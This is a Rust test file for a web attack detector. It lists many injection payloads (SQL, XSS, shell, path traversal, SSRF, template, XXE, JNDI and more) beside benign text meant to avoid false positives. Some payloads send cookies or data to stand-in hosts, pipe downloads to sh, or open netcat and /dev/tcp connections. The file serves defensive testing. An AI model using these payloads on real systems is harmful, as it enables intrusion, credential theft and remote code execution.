//! Attacks of every class in forms of our own, none of them out of a list, and texts of people,
//! shops and developers that lie beside them. What is mended for one of them is mended by grammar.

use super::tests::{score_in, with};
use super::{Class, Place, THRESHOLD};

/// What must be found, by class.
const ATTACKS: &[(Class, &[&str])] = &[
    (
        Class::Sql,
        &[
            // Behind a single quote.
            "zoe' or 'q' like 'q",
            "zoe' or length(pin) > 3 -- x",
            "'or 17 between 3 and 40#",
            "' or exists(select pin from staff) or '",
            "nobody' and ascii(substring(pin,1,1)) > 64 and 'k' = 'k",
            "kiwi') or not ('a' <> 'a",
            "' || (select pin from staff limit 1) || '",
            "9'; update staff set pin = 1 where id = 2; -- ",
            "kiwi'/**/or/**/4<>5/**/--",
            "'-(case when 3>2 then 1 else 0 end)-'",
            "\\' or 8=8 -- ",
            "kiwi'\n'",
            // Behind a double quote.
            "zoe\" or 3 < 4 -- ",
            "\" or pin is not null or \"",
            "kiwi\") union all select pin, 2 from staff#",
            "\"; drop table staff; --",
            // Bare.
            "12 or 5=5",
            "12) or (6=6",
            "-9 union select pin, null, null from staff",
            "12 and (select count(*) from staff) > 0",
            "12;delete from staff where id > 4",
            "12 or pg_sleep(9)",
            "12 procedure analyse(extractvalue(1,concat(0x5c,version())),1)",
            "(case when 4=4 then name else price end)",
            "price,(select sleep(4))",
            "12-if(4=4,sleep(3),0)",
            " and '44'",
            "or 4711 >= (select",
            "and price < 12))",
            "31 ; -- ",
            "8 'or' 9",
            "1;exec[staff].[p]",
            // In backticks, and hidden.
            "name` desc, (select 1 from staff) -- ",
            "12 de/**/lete from staff",
            "12/*!50000 union*/ select pin from staff",
        ],
    ),
    (
        Class::Html,
        &[
            // In text, in an attribute, in an address, in a style, in a script.
            "<details open ontoggle=alert(8)>",
            "<svg><animate onbegin=confirm`4` attributeName=x dur=1s>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(2)>",
            "\" autofocus onfocus=prompt(7) x=\"",
            "' onpointerenter='fetch(`//h.example/`+document.cookie)",
            "java\tscript:confirm(3)",
            "&#106;avascript:alert(3)",
            "<a href=\" javascript:print()\">x</a>",
            "</style><script src=//h.example/k.js></script>",
            "</textarea><iframe srcdoc=\"&lt;script&gt;top.x()&lt;/script&gt;\">",
            "';top[`al`+`ert`](3);//",
            "\"-confirm(9)-\"",
            "</script><script>location='//h.example/'+document.cookie</script>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "<IMG SRC=q oNeRrOr\n=\nprint()>",
            "<b on=1 onmouseover = eval(name)>x",
        ],
    ),
    (
        Class::Shell,
        &[
            "kiwi; tac /etc/hosts",
            "kiwi | nc 203.0.113.9 4444",
            "kiwi && wget -qO- http://h.example/k | sh",
            "$(head -c 40 /etc/hosts)",
            "kiwi`uname -r`",
            "w\\ho\\am\\i",
            "kiwi;w'h'oami",
            "kiwi;\"un\"ame -a",
            "kiwi;c$@at /etc/hosts",
            "\\curl http://h.example/",
            "nice -n 5 wget http://h.example/k",
            "setsid nohup ncat -lvp 4444",
            "stdbuf -o0 python3 -c 'print(4)'",
            "env X=1 bash -c id",
            "command tar -cf - /etc",
            "{tar,cf,-,/etc}",
            "kiwi;{tail,/etc/hosts}",
            "h{ea,}d -n 3 /etc/hosts",
            "cat</etc/hosts",
            "kiwi\nping -c 4 203.0.113.9",
            "kiwi & ping -n 4 203.0.113.9 &",
            "kiwi|type c:\\boot.ini",
            "cmd.exe /k dir",
            "a=wh;b=oami;$a$b",
            "exec 5<>/dev/tcp/203.0.113.9/443",
            "!-3 !-1",
            // Code.
            "';system('uptime');//",
            "passthru\n('uptime')",
            "shell_exec/*k*/('uptime')",
            "Runtime.getRuntime().exec(\"uptime\")",
            "__import__('subprocess').check_output('uptime')",
            "global.process.mainModule.require('child_process').execSync('uptime')",
        ],
    ),
    (
        Class::Path,
        &[
            "../../../../srv/kiwi/secret.key",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/hosts",
            "%2e%2e%2f%2e%2e%2fetc%2fhosts",
            "..%c0%af..%c0%afetc/passwd",
            "/proc/self/environ",
            "file:///etc/hostname",
            "php://filter/convert.base64-encode/resource=index",
            "/var/log/apache2/access.log",
            "kiwi/..;/..;/manager/html",
        ],
    ),
    (
        Class::Url,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2130706433/admin",
            "http://[::ffff:10.0.0.9]:8080/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://localhost:9200/_cat/indices",
            "http://0x7f.1/",
        ],
    ),
    (
        Class::NoSql,
        &[
            "{\"$gt\": \"\"}",
            "{\"pin\": {\"$regex\": \"^a\"}}",
            "'; return this.pin.length > 2; var x = '",
            "' || this.pin.match(/^a/) || 'k'=='",
            "{\"$where\": \"sleep(900)\"}",
        ],
    ),
    (
        Class::Template,
        &[
            "{{ 31*29 }}",
            "${31*29}",
            "#{31*29}",
            "<%= 31 * 29 %>",
            "{{ kiwi.__class__.__mro__ }}",
            "{{ cycler.__init__.__globals__.os.popen('uptime').read() }}",
            "${T(java.lang.System).getenv()}",
            "#set($k = 4)$k.getClass()",
            "{% for k in [].__class__.__base__.__subclasses__() %}",
            "{{ constructor.constructor('return 4')() }}",
        ],
    ),
    (
        Class::Xml,
        &[
            "<!DOCTYPE k [<!ENTITY e SYSTEM \"file:///etc/hosts\">]><k>&e;</k>",
            "<!DOCTYPE k [<!ENTITY % p SYSTEM 'http://h.example/k.dtd'> %p;]><k/>",
            "<k xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/hosts\" parse=\"text\"/></k>",
        ],
    ),
    (
        Class::Jndi,
        &[
            "${jndi:ldap://h.example/k}",
            "${${lower:J}ndi:${lower:R}mi://h.example:1099/k}",
            "${jn${env:KIWI:-d}i:dns://h.example}",
            "kiwi/1.0 (${jndi:ldaps://h.example:636/${env:USER}})",
        ],
    ),
    (
        Class::Directory,
        &[
            "zoe)(|(mail=*",
            "zoe)(uid=*))(|(uid=*",
            "*)(objectClass=*",
            "' or count(//staff) > 0 or 'k'='",
            "kiwi'] | //staff/pin | //k['",
        ],
    ),
    (
        Class::Lines,
        &[
            "kiwi\r\nSet-Cookie: sid=4",
            "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
            "zoe@h.example\nBcc: all@h.example",
            "/next%0d%0aLocation: https://h.example",
        ],
    ),
    (
        Class::Serial,
        &[
            "O:4:\"Kiwi\":1:{s:3:\"pin\";s:2:\"id\";}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]",
        ],
    ),
    (Class::Prototype, &["{\"__proto__\": {\"admin\": true}}"]),
    (
        Class::Include,
        &[
            "<!--#exec cmd=\"uptime\" -->",
            "() { :; }; /bin/uptime",
            "<esi:include src=\"http://h.example/k\"/>",
        ],
    ),
];

/// What must fire nothing: sentences, names, products, posts with code, searches, and what programs send.
const PLAIN: &[&str] = &[
    "'or else', she said",
    "'Or else what?' he asked, and left",
    "'and then what' said the king",
    "'and so on'",
    "\"or maybe not\", he thought",
    "'or",
    "'or so they say",
    "He shouted 'or else' and \"and how\" in one breath",
    "' or so I thought",
    "'Having it all' is a myth",
    "'Union' and 'order' are nouns",
    "'alter ego', 'drop dead' and 'like a boss'",
    "A 'or' B",
    "tea 'and' coffee",
    "the '1 or 2' question",
    "yes' or no",
    "the boys' or girls' team",
    "six o'clock or 7 o'clock",
    "rock'n'roll or r'n'b",
    "the 90's and 80's hits",
    "It's 5 = half of 10, isn't it?",
    "'tis the season -- or so",
    "'...' is how he ended it --",
    "Where's Wally? In the '60s, or 'before' that",
    "select all the '2 for 1' offers from the list",
    "don't delete; update from the 'old' one, then drop it",
    "not null and void",
    "Is 3 > 2 and 2 > 1? Yes.",
    "Q&A: who's who, what's what and where's where",
    "L'un ou l'autre, or l'argent d'abord",
    "Anne-Marie d'Or",
    "Ol' Man River",
    "O'Or",
    "And'or",
    "Ex O'Shea",
    "Case O'Neill",
    "Time Wade",
    "Cat O'Nine Tails",
    "D'or & D'argent",
    "Rm. 5; St. John's",
    "Bed frame 5' x 6' or 60\" x 72\"",
    "3/4\" pipe & 1/2\" hose; 10' lead",
    "12\" vinyl, 'as new' or better",
    "Levi's 501 -- W32/L34",
    "M&M's 'Crispy' 36g",
    "\"Order by Noon\" candle",
    "1/2 lb. -- 3/4 lb.",
    "USB-C <-> HDMI; 4K @ 60Hz",
    "nice cat",
    "time sleep",
    "nice head of lettuce",
    "command line curl",
    "env file",
    "watch cat videos",
    "exec id badge",
    "Time Out & Date",
    "wow!! -1 !!",
    "!!!",
    "{id,name}",
    "{date,time}",
    "{ id, name, host }",
    "{file,line}",
    "a{b,c}d",
    "\\section{Cat}",
    "Run `ls -la` and 'grep' for it, or ask.",
    "Write `' or '1'='1` in the field and see what the form says to you.",
    "Use `{{ name }}` or `${name}` in the text and it is replaced when it is sent.",
    "`SELECT 1` isn't the same as `select '1'`, or is it?",
    "# Or\n\nUse `or` where 'and' won't do; `a or b` is true if one is.",
    "if x == 'a' or y == 'b': pass",
    "const s = 'or' + \"and\";",
    "status:open and priority:high or label:'needs work'",
    "name eq 'Kiwi' and price gt 5 or not discontinued",
    "title:\"or else\" AND author:O'Hara",
    "file\n(see page 4)",
    "Notes:\n\n(none)",
    "x' = f'(x) and y' = g'(y)",
    "f(x) = 3 and g(x) = (x)",
    "(a and b = 2)",
    "10 -- 12",
    "3 - -2",
    "https://shop.example/a?next=/b&ref=c",
    "<3 and >_< or :'(",
    "='( ",
    ";')",
    "a < b or c > d",
    "I <b>really</b> like it & so does <i>she</i>",
    "on = off; onset=late",
    "mailto:zoe@h.example?subject=Hi",
    "Dear all,\nTo: be or not to be\nFrom: me",
    "total: ${amount} of {{count}}",
    "(uid or mail)",
    "Kiwi*",
    "jndi is a naming interface of Java",
    "constructor and prototype are words of JavaScript",
];

#[test]
fn attacks_of_every_class_are_found() {
    let mut missed = Vec::new();
    let mut tried = 0;
    for (class, values) in ATTACKS {
        for value in *values {
            let found = [Place::Query, Place::Body]
                .into_iter()
                .map(|place| score_in(*class, place, "q", value))
                .max();
            tried += 1;
            if found < Some(THRESHOLD) {
                missed.push((class, *value, found));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    assert_eq!(tried, 137);
}

#[test]
fn what_people_write_is_not() {
    let mut fired = Vec::new();
    with(|scorer| {
        for value in PLAIN {
            for place in [Place::Query, Place::Body] {
                scorer.value(place, b"text", value.as_bytes(), |class, told| {
                    if told.score >= THRESHOLD {
                        fired.push((*value, class, told.rule));
                    }
                });
            }
        }
    });
    assert!(fired.is_empty(), "{fired:#?}");
}
